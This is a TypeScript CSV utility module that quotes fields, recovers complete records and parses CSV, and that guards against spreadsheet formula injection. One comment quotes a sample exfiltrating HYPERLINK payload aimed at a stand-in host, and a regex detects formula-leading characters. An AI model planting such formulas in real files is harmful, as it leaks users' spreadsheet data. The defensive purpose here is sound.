/**
 * RFC 4180 CSV: fields quoted when they hold a comma, quote, CR or LF; rows end with CRLF.
 * Text a spreadsheet would run as a formula is neutralised (see FORMULA_START).
 */

export type CsvValue = string | number | boolean | null | undefined;

/**
 * What a spreadsheet (Excel, LibreOffice, Google Sheets) takes for the start of a formula: a
 * prompt such as `=HYPERLINK("http://x/?"&A1,"open")` would run when the manifest is opened.
 * As OWASP advises (CSV injection), such text gets a `'` before it: shown, never run. Numbers
 * are data, not text, and stay as they are (a seed of -1).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  let text = String(value);
  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvRow(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}

const QUOTE = 0x22;
const LF = 0x0a;

/**
 * The byte length of the longest prefix of UTF-8 CSV `bytes` made of complete records (each
 * ending with a line break outside quotes). What follows is a row cut short by a crash.
 * Scanning bytes is safe: UTF-8 multi-byte sequences never contain ASCII bytes.
 */
export function completeRecordsLength(bytes: Uint8Array): number {
  let inQuotes = false;
  let end = 0;
  for (let i = 0; i < bytes.length; i += 1) {
    const byte = bytes[i];
    if (byte === QUOTE)
      inQuotes = !inQuotes; // an escaped "" toggles twice
    else if (byte === LF && !inQuotes) end = i + 1;
  }
  return end;
}

/**
 * Whether a record of UTF-8 CSV `bytes` (rows written by csvRow) has `first` as its first
 * field. Only a match of the encoded field after a line break is looked at closer (is that
 * line break outside quotes?), so a file is mostly searched natively, not parsed. The header,
 * the first record, is never a match.
 */
export function hasRecordStartingWith(bytes: Buffer, first: CsvValue): boolean {
  const needle = Buffer.from(`\n${csvField(first)},`, 'utf8');
  let quotes = 0;
  let counted = 0;
  for (let at = bytes.indexOf(needle); at !== -1; at = bytes.indexOf(needle, at + 1)) {
    for (; counted < at; counted += 1) if (bytes[counted] === QUOTE) quotes += 1;
    // An even count of quotes before it: the line break ends a record (see
    // completeRecordsLength), it is not inside a quoted field.
    if (quotes % 2 === 0) return true;
  }
  return false;
}

/** Parses CSV text into rows of strings (RFC 4180), for tests and for reading manifests. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (inQuotes) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') inQuotes = false;
      else field += char;
    } else if (char === '"') inQuotes = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      // CRLF ends the record; the LF is handled next
    } else if (char === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += char;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}
